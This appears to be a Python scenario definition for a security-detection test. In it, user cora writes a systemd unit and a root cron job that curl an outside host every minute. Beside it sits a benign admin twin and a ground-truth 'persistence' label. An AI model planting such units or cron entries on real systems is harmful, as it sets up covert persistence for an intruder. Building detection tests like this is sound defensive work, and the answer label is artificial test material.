"""A unit and its timer, dropped beside those of packages, that would call outside."""

from __future__ import annotations

from ..scenario import EVERYTHING, HTTP, STRANGER, Person, Scenario, Step, Truth

_UNIT = f"[Service]\\nExecStart=/usr/bin/curl -s http://{STRANGER}:{HTTP}/x\\n"
_FOLDER = "/etc/systemd/system"

SCENARIO = Scenario(
    number=20,
    title="a systemd unit and a cron entry dropped by hand",
    people=(Person("cora", ("db",), EVERYTHING), Person("carl", ("db",), EVERYTHING)),
    steps=(
        Step("cora", f"ssh cora@db \"printf '{_UNIT}' | sudo tee {_FOLDER}/sync.service > /dev/null\""),
        Step(
            "cora",
            "ssh cora@db \"echo '* * * * * root curl -s http://203.0.113.9:8080/x' | "
            'sudo tee /etc/cron.d/sync > /dev/null"',
        ),
    ),
    twin_title="an administrator looks at units and writes a note elsewhere in /etc",
    twin=(
        Step(
            "carl",
            "ssh carl@db 'ls /etc/systemd/system > /dev/null; echo x | sudo tee /etc/motd > /dev/null'",
        ),
    ),
    truth=Truth("cora", ("db",), ("persistence",)),
)
